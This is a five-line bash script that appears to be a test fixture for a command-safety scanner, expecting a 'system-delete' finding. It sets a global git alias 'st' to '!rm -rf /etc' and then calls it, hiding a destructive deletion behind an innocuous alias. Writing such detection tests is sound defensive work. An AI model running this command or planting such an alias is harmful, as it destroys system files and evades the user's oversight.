#!/bin/bash
# shows: an alias of git that is stored and used
# expect: system-delete at line 4
git config --global alias.st '!rm -rf /etc'
git st
